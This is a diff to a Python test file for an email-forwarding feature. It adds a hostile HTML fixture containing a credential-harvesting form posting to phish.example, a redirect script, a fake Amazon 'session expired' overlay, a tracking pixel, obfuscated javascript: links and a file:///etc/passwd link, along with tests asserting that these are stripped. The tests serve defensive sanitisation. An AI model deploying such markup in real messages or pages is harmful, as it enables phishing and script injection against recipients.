@@ -479,7 +479,7 @@ def test_forward_email_puts_the_confirm_link_first() -> None:
         to="alice@example.com",
         subject="Confirm your subscription to Field Notes",
         confirm_link="https://fieldnotes.example/confirm?t=1",
-        original_sender="Field Notes <hello@fieldnotes.example>",
+        original_sender="hello@fieldnotes.example",
         original_subject="Please confirm",
         original_html=original_html,
         original_text=None,
@@ -507,6 +507,65 @@ def test_forward_email_without_a_link_still_shows_the_original() -> None:
     html = msg.get_body(("html",)).get_content()
     assert "javascript:" not in html.split("<hr>")[0].replace("<pre>", "")
     assert "Reply YES to confirm." in msg.get_body(("plain",)).get_content()
+
+
+HOSTILE_CONFIRMATION = """<html><head><style>body{background:url(https://t.example/bg)}</style>
+<script>document.location='https://phish.example'</script></head>
+<body onload="steal()">
+<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">Your Amazon session expired</div>
+<p>Please confirm your subscription.</p>
+<p><a href="https://news.example/confirm?t=9">Confirm</a> or <a href="mailto:help@news.example">write to us</a></p>
+<form action="https://phish.example/login" method="post"><p>Sign in again</p>
+<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form>
+<iframe src="https://phish.example/frame"></iframe><object data="https://x.example/x.swf"></object>
+<img src="https://t.example/pixel.gif" width="1" height="1"><svg><a href="javascript:alert(1)">x</a></svg>
+<a href="file:///etc/passwd">local file</a> <a href=" java&#x09;script:alert(1)">js</a>
+<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
+</body></html>"""
+
+
+def test_a_forward_is_built_from_inert_content_never_relayed() -> None:
+    msg = build_forward_email(
+        sender=SENDER,
+        to="alice@example.com",
+        subject="Confirm: your subscription",
+        confirm_link="https://news.example/confirm?t=9",
+        original_sender="kindle-support@news.example",
+        original_subject="Please confirm",
+        original_html=HOSTILE_CONFIRMATION,
+        original_text=None,
+    )
+
+    body = msg.get_body(("html",)).get_content()
+    lead, _, quoted = body.partition("<blockquote>")
+    assert lead.index("https://news.example/confirm?t=9") < len(lead)  # the confirm link comes first
+    assert "Please confirm your subscription." in quoted and "Sign in again" in quoted
+    lowered = body.lower()
+    for active in ("<script", "<style", "onload", "onclick", "<form", "<input", "<button", "<iframe", "<object",
+                   "<svg", "<img", "position", "z-index", "style=", "pixel.gif", "t.example"):
+        assert active not in lowered, active
+    hrefs = re.findall(r'href="([^"]*)"', body)
+    assert hrefs == [
+        "https://news.example/confirm?t=9", "https://news.example/confirm?t=9", "mailto:help@news.example"
+    ]
+    assert "<code>kindle-support@news.example</code>" in body
+
+
+def test_a_forward_names_the_sender_by_address_and_refuses_a_foreign_confirm_link() -> None:
+    msg = build_forward_email(
+        sender=SENDER,
+        to="alice@example.com",
+        subject="Confirm",
+        confirm_link="file:///etc/passwd",
+        original_sender="x@news.example",
+        original_subject="Confirm",
+        original_html=None,
+        original_text="Amazon Kindle Support: reply YES.",
+    )
+    text = msg.get_body(("plain",)).get_content()
+    assert "file:" not in msg.get_body(("html",)).get_content() and "file:" not in text
+    assert "sent from x@news.example" in text and "> Amazon Kindle Support: reply YES." in text
+    assert msg["From"] == SENDER
 
 
 def test_notification_email() -> None:
